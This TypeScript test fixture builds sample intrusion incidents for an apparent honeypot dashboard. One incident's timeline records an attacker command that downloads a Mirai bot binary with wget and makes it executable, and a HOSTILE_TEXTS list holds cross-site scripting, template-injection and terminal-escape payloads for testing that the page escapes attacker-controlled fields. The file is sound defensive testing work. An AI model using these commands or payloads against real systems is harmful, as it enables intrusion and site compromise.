/** Incidents for tests and screenshots: a believable intrusion, and one with hostile text in every field that an attacker can reach. */
import type { Action } from '@netsentinel/contracts/action';
import type { Incident } from '@netsentinel/contracts/incident';

const MINUTE = 60_000;

/** A guessed password, a look around, a downloaded bot; `change` overrides fields. `at`: epoch ms of the last move. */
export function sampleIncident(id: string, at: number, change: Partial<Incident> = {}): Incident {
  const start = at - 4 * MINUTE;
  const session = `ssh~${id}`;
  const step = (minutes: number, kind: string, title: string, more: Partial<Incident['timeline'][number]> = {}) => ({
    time: start + minutes * MINUTE,
    kind,
    title,
    session,
    ...more,
  });
  return {
    id,
    actor: '203.0.113.77',
    addresses: ['203.0.113.77'],
    status: 'contained',
    title: 'Brute-forced login, then a bot was fetched and started',
    severity: 'critical',
    score: 94,
    firstSeen: start,
    lastSeen: at,
    sourceVerified: true,
    tactics: ['TA0006', 'TA0001', 'TA0002', 'TA0007', 'TA0011'],
    techniques: ['T1110.001', 'T1078', 'T1059.004', 'T1082', 'T1105', 'T1222.002'],
    detections: [
      {
        rule: 'ssh-bruteforce',
        title: 'Many failed logins',
        severity: 'high',
        confidence: 92,
        count: 1,
        first: start,
        last: start + MINUTE,
      },
    ],
    timeline: [
      step(0, 'connect', 'Connected to ssh'),
      step(0.1, 'login', 'Tried 14 passwords for root', { count: 14 }),
      step(0.8, 'detection', 'Many failed logins from one address', { severity: 'high', techniques: ['T1110.001'] }),
      step(0.9, 'login', 'Logged in as root', { severity: 'high', techniques: ['T1078'] }),
      step(1.2, 'command', 'Ran a command', {
        detail: 'uname -a; cat /proc/cpuinfo | grep name | wc -l',
        techniques: ['T1082'],
      }),
      step(2.1, 'file', 'Fetched a file', {
        detail: 'wget http://198.51.100.9/bins/mirai.x86 -O /tmp/.x\nchmod 777 /tmp/.x',
        severity: 'critical',
        techniques: ['T1105', 'T1222.002'],
      }),
      step(2.4, 'action', 'Blocked 203.0.113.77'),
      step(4, 'disconnect', 'Disconnected'),
    ],
    credentials: [
      { user: 'root', password: '123456', accepted: true, count: 1, last: start + MINUTE },
      { user: 'root', password: 'root', accepted: false, count: 3, last: start },
      { user: 'admin', password: 'admin', accepted: false, count: 2, last: start },
    ],
    commands: [{ time: start + 1.2 * MINUTE, input: 'uname -a', session, techniques: ['T1082'] }],
    files: [
      {
        time: start + 2.1 * MINUTE,
        path: '/tmp/.x',
        sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
        bytes: 48_213,
        url: 'http://198.51.100.9/bins/mirai.x86',
        direction: 'download',
      },
    ],
    fingerprints: [
      { kind: 'hassh', value: '92674389fa1e47a27ddd8d9b63ecd42b' },
      { kind: 'client', value: 'SSH-2.0-Go' },
    ],
    sessions: [
      {
        id: session,
        decoy: 'ssh',
        protocol: 'ssh',
        start,
        end: at,
        user: 'root',
        recording: session,
        client: 'SSH-2.0-Go',
      },
    ],
    counts: { events: 61, logins: 1, failures: 14, commands: 9 },
    omitted: {},
    actions: [],
    version: 1,
    ...change,
  };
}

/** A block of the incident's address that holds for an hour from `at`. */
export function sampleBlock(id: string, incident: Incident, at: number, change: Partial<Action> = {}): Action {
  return {
    id,
    incident: incident.id,
    actor: incident.actor,
    kind: 'block',
    target: incident.addresses[0] ?? '203.0.113.77',
    responder: 'nftables',
    reason: 'Score 94 passed the threshold of 70',
    status: 'verified',
    createdAt: at,
    expiresAt: at + 60 * MINUTE,
    updatedAt: at,
    ...change,
  };
}

/** What attackers send to break the page that shows it. A script of these sets `__pwned`. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '"><img src=x onerror="window.__pwned=1">',
  `'-alert(1)-'"><svg/onload=window.__pwned=1>`,
  'javascript:window.__pwned=1',
  'data:text/html,<script>window.__pwned=1</script>',
  '</script><script>alert(1)</script>',
  '{{constructor.constructor("window.__pwned=1")()}}',
  '${window.__pwned=1}',
  '\u202egnp.exe\u2066\u200b\ufeff\u2028\u00ad',
  '\u001b]0;owned\u0007\u001b[2J\u001b[31mred\u0000\r\n\u009b31m',
  '🧨👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿 Ω≈ç√ 漢字 עברית العربية e\u0301',
  '\ud800 lone \udfff',
  '__proto__',
  'constructor',
];

/** Every string field that an attacker's bytes can reach holds `text`, cut to the field's bound, and the times are absurd. */
export function hostileIncident(id: string, text: string, at: number): Incident {
  const cut = (max: number): string => text.slice(0, max);
  const session = { id: cut(1024), decoy: cut(1024), protocol: cut(32), start: 8.64e15 + 1, client: cut(1024) };
  return sampleIncident(id, at, {
    actor: cut(64),
    addresses: [cut(45), '203.0.113.9'],
    title: cut(1024),
    detections: [{ rule: cut(128), title: cut(1024), severity: 'high', count: 1, first: at, last: at }],
    timeline: ['connect', 'login', 'command', 'file', cut(32)].map((kind) => ({
      time: kind === 'file' ? 9e15 : at,
      kind,
      title: cut(1024),
      detail: cut(4096),
      session: cut(1024),
      event: cut(1024),
      severity: 'high' as const,
      techniques: ['T1059'],
    })),
    credentials: [
      { user: cut(1024), password: cut(1024), accepted: true, count: 1, last: at },
      { user: cut(1024), key: cut(1024), accepted: false, count: 1, last: at },
    ],
    commands: [{ time: at, input: cut(4096), session: cut(1024), techniques: [] }],
    files: [{ time: -9e15, path: cut(4096), sha256: cut(64), bytes: 1, url: cut(4096), direction: 'download' }],
    fingerprints: [{ kind: cut(32), value: cut(1024) }],
    sessions: [
      // The oldest, so that a page shows one of those that can be read first.
      { ...session, start: -9e15, end: at, user: cut(1024), recording: cut(1024) },
      { ...session, id: `${cut(1000)}2`, end: at, user: cut(1024), recording: `ssh~${id}` },
      { ...session, id: `${cut(1000)}3`, user: cut(1024), recording: `ssh~${id}` },
    ],
    omitted: { timeline: 3, [cut(64)]: 1 },
  });
}
